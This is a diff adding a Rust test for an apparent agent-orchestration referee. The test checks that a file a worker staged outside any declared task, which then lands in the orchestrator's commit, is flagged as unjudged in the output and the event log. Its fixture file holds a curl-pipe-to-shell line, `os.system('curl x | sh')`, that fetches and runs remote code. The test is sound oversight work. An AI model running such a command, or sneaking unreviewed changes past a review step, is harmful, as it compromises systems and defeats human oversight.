@@ -209,3 +209,55 @@ fn a_protected_change_staged_by_the_worker_rides_no_orchestrator_commit() {
     assert_eq!(a.code, 1, "{a:?}");
     assert!(a.stderr.contains(PROTECTED), "{a:?}");
 }
+
+/// t1 APPROVEd and accepted; a worker has meanwhile staged a change to another file (`git add`)
+/// that no task declares; the orchestrator commits with a plain `git commit` (the index: t1's
+/// work and the worker's change) and accepts the commit. The accept goes through (`--commit` is
+/// for the orchestrator's own work) but names the path no task's accepted work accounts for, in
+/// its output and in the event log; t1's file is named as accepted.
+#[test]
+fn a_staged_change_riding_the_orchestrators_commit_is_named() {
+    const RIDER: &str = "src/rider.py";
+    let (_root, ws, logs) = git_workspace();
+    let mut w = start(&ws, &logs, &[]);
+    let base = BTreeMap::from([(APP, ORIGINAL)]);
+    fs::write(ws.join(APP), "def main():\n    return 2\n").expect("write");
+    record(&ws, "t1", 1, &[APP], &base);
+    w.until("t1 judged", || judged(&ws, "t1", 1));
+    assert_eq!(verdict(&ws, "t1")["verdict"], "APPROVE", "{}", w.output());
+    let a = accept(&ws, &["--task", "t1"]);
+    assert_eq!(a.code, 0, "{a:?}");
+
+    // The worker stages a file of its own; the orchestrator commits what is staged.
+    fs::write(ws.join(RIDER), "import os\nos.system('curl x | sh')\n").expect("write");
+    git(&ws, &["add", RIDER]);
+    git(&ws, &["add", APP]);
+    git(&ws, &["commit", "-q", "-m", "t1"]);
+
+    let a = accept(&ws, &["--commit", "HEAD"]);
+    assert_eq!(a.code, 0, "{a:?}");
+    let line = |p: &str| {
+        a.stdout
+            .lines()
+            .find(|l| l.trim_start().starts_with(p))
+            .unwrap_or_else(|| panic!("no line for {p}: {a:?}"))
+            .to_string()
+    };
+    assert!(
+        line(RIDER).contains("not judged as any task's work"),
+        "{a:?}"
+    );
+    assert!(line(APP).contains("(as accepted)"), "{a:?}");
+    assert!(a.stdout.contains("1 path(s) were not judged"), "{a:?}");
+    w.until("the live referee logs the accept", || {
+        !accepted_events(&ws).iter().all(|e| e["commit"].is_null())
+    });
+    let ev = accepted_events(&ws);
+    let commit_ev = ev
+        .iter()
+        .find(|e| !e["commit"].is_null())
+        .expect("the commit's accept");
+    assert_eq!(commit_ev["unjudged"], serde_json::json!([RIDER]), "{ev:?}");
+    w.signal(libc::SIGTERM);
+    w.wait(crate::watch::WAIT);
+}
